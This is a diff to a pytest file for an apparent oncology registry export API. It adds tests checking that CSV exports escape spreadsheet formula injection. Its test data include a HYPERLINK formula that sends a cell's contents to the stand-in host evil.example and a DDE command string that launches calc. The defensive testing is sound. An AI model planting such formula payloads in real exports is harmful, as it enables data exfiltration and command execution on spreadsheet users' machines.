@@ -20,6 +20,13 @@ from .test_registry_import import csv_text
 
 pytestmark = pytest.mark.urls("tests.outcomes.urls")
 
+@pytest.fixture(autouse=True)
+def small_cohorts_allowed(settings):
+    """These tests check analysis and export content on a 4-patient registry; the minimum cohort, group suppression
+    and release ledger are tested with a cohort above the minimum in tests/outcomes/test_disclosure.py."""
+    settings.RADPATH_MIN_COHORT = 1
+
+
 NAMES = [("Quilla", "Vantongeren"), ("Bartholomew", "Zygmuntowicz"), ("Ottoline", "Featherstonehaugh"), ("Evander", "Quartermaine")]
 
 
@@ -224,3 +231,41 @@ def test_grade3_toxicity_column_and_cohort_filter(cohort, researcher):
     assert (df["grade3_toxicity"] == "yes").sum() == 1
     r = c.get("/api/outcomes/survival/", {"group_by": "grade3_toxicity", "points": "0"})
     assert r.status_code == 200 and {g["label"] for g in r.json()["groups"]} == {"yes", "no"}
+
+
+def test_formula_injection_is_escaped_in_csv_only(oncologist, researcher):
+    """A registry value that a spreadsheet would run as a formula reaches the CSV with a leading quote (OWASP);
+    numbers (negative day offsets) stay numbers, and Parquet / JSON keep the value as imported."""
+    rows = registry_rows()
+    arms = {"MRNX001": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "MRNX002": "+1+1", "MRNX003": "@SUM(1+1)",
+            "MRNX004": "-2+3"}
+    for r in rows:
+        if r["record_type"] == "patient":
+            r["trial_arm"] = arms[r["mrn"]]
+    import_registry(csv_text(rows), user=oncologist)
+    c = client_for(researcher)
+    key = settings.RADPATH_PSEUDONYM_KEY
+    body = c.get("/api/outcomes/exports/patients.csv", {"time_zero": "diagnosis"}).content
+    df = pd.read_csv(io.BytesIO(body), keep_default_na=False).set_index("pseudo_id")
+    assert df.loc[pseudonym("MRNX001", key), "trial_arm"] == "'" + arms["MRNX001"]
+    assert df.loc[pseudonym("MRNX002", key), "trial_arm"] == "'+1+1"
+    assert df.loc[pseudonym("MRNX003", key), "trial_arm"] == "'@SUM(1+1)"
+    assert df.loc[pseudonym("MRNX004", key), "trial_arm"] == "'-2+3"
+    assert b"\n=" not in body and b",=" not in body and b",+1+1" not in body
+    # day offsets before time zero are numbers, not escaped: RT starts 2020-06-01, diagnosis 2020-01-15
+    assert df.loc[pseudonym("MRNX001", key), "rt_start_day"] == 138
+    dx = pd.read_csv(io.BytesIO(c.get("/api/outcomes/exports/patients.csv").content)).set_index("pseudo_id")
+    assert dx.loc[pseudonym("MRNX001", key), "diagnosis_date_day"] == -138
+    js = json.loads(c.get("/api/outcomes/exports/patients.json").content)
+    assert {r["trial_arm"] for r in js["rows"]} == set(arms.values())
+    pq = pd.read_parquet(io.BytesIO(c.get("/api/outcomes/exports/patients.parquet").content))
+    assert set(pq["trial_arm"]) == set(arms.values())
+
+
+def test_csv_formula_escape_covers_tab_and_carriage_return_and_leaves_numbers():
+    from outcomes.exports import csv_safe, escape_formula
+
+    assert [escape_formula(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", None, -3)] == [
+        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "", None, -3]
+    out = csv_safe(pd.DataFrame({"arm": ["=cmd|' /C calc'!A0", "B"], "day": [-12, 4]}))
+    assert out["arm"].tolist() == ["'=cmd|' /C calc'!A0", "B"] and out["day"].tolist() == [-12, 4]
